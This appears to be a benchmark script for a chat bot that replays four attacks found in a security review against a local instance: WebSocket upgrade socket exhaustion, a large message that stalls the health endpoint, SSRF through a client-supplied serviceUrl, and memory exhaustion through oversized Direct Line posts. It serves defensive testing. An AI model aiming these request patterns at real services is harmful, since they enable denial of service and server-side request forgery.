/**
 * The four high-severity attacks of the security review, replayed against a running bot (local
 * mode), with the figure each one is judged by. `npm run bench:attacks -- http://127.0.0.1:3978`.
 * Not part of `npm test` (it deliberately loads the server); the regression tests are in
 * test/security.test.ts.
 */
import { connect } from 'node:net';
import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { execFileSync } from 'node:child_process';

const base = process.argv[2] ?? 'http://127.0.0.1:3978';
const port = Number(new URL(base).port);
const pid = process.argv[3]; // optional: the bot's PID, for its memory

function rssMb(): string {
  if (!pid) return 'n/a (pass the PID)';
  const kb = Number(execFileSync('ps', ['-o', 'rss=', '-p', pid]).toString().trim());
  return `${Math.round(kb / 1024)} MB`;
}

async function openAfterUpgrades(n: number): Promise<number> {
  const sockets = await Promise.all(
    Array.from(
      { length: n },
      () =>
        new Promise<{ closed: () => boolean }>((resolve) => {
          const s = connect(port, '127.0.0.1');
          let closed = false;
          s.resume(); // read what the server says, so its close is seen
          s.on('close', () => {
            closed = true;
          });
          s.on('error', () => undefined);
          s.on('connect', () => {
            s.write('GET /api/messages HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n');
            resolve({ closed: () => closed });
          });
        }),
    ),
  );
  await new Promise((r) => setTimeout(r, 3000));
  return sockets.filter((s) => !s.closed()).length;
}

async function healthDelayDuring120KbMessage(connectorUrl: string): Promise<number> {
  const body = JSON.stringify({
    type: 'message',
    channelId: 'emulator',
    serviceUrl: connectorUrl,
    id: '1',
    from: { id: 'l' },
    recipient: { id: 'b' },
    conversation: { id: 'attack' },
    text: 'a'.repeat(120_000),
  });
  const sending = fetch(`${base}/api/messages`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
  }).catch(() => undefined);
  await new Promise((r) => setTimeout(r, 20));
  const t = performance.now();
  await fetch(`${base}/healthz`);
  const delay = performance.now() - t;
  await sending;
  return delay;
}

async function main() {
  let hits = 0;
  const target = createServer((req, res) => {
    hits++;
    req.resume();
    res.writeHead(200);
    res.end('{}');
  });
  target.listen(0, '127.0.0.2');
  await once(target, 'listening');
  const targetUrl = `http://127.0.0.2:${(target.address() as AddressInfo).port}/`;
  const loopback = createServer((req, res) => {
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"id":"x"}');
  });
  loopback.listen(0, '127.0.0.1');
  await once(loopback, 'listening');
  const loopbackUrl = `http://127.0.0.1:${(loopback.address() as AddressInfo).port}/`;

  console.log(`memory at start: ${rssMb()}`);
  console.log(`sockets still open 3 s after 1000 upgrade requests: ${await openAfterUpgrades(1000)}`);
  console.log(
    `/healthz delay during a 120 KB message: ${Math.round(await healthDelayDuring120KbMessage(loopbackUrl))} ms`,
  );

  // SSRF: the widget's Direct Line, and /api/messages, with a serviceUrl chosen by the client.
  const { token } = (await (await fetch(`${base}/api/directline/token`, { method: 'POST' })).json()) as {
    token: string;
  };
  const auth = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const { conversationId } = (await (
    await fetch(`${base}/v3/directline/conversations`, { method: 'POST', headers: auth, body: '{}' })
  ).json()) as { conversationId: string };
  const dl = `${base}/v3/directline/conversations/${conversationId}/activities`;
  for (let i = 0; i < 10; i++) {
    await fetch(dl, {
      method: 'POST',
      headers: auth,
      body: JSON.stringify({ type: 'message', text: 'bonjour', serviceUrl: targetUrl }),
    });
    await fetch(`${base}/api/messages`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        type: 'message',
        channelId: 'emulator',
        serviceUrl: targetUrl,
        id: String(i),
        from: { id: 'l' },
        recipient: { id: 'b' },
        conversation: { id: 'ssrf' },
        text: 'bonjour',
      }),
    });
  }
  console.log(`requests that reached a client-chosen serviceUrl (20 attempts): ${hits}`);

  const big = JSON.stringify({ type: 'message', text: 'a'.repeat(262_000 - 40) });
  for (let i = 0; i < 400; i++) await fetch(dl, { method: 'POST', headers: auth, body: big });
  const poll = await (await fetch(`${dl}?watermark=0`, { headers: auth })).text();
  console.log(`after 400 posts of 262 KB: memory ${rssMb()}, one poll ${Math.round(poll.length / 1024)} KB`);
  target.close();
  loopback.close();
}

await main();
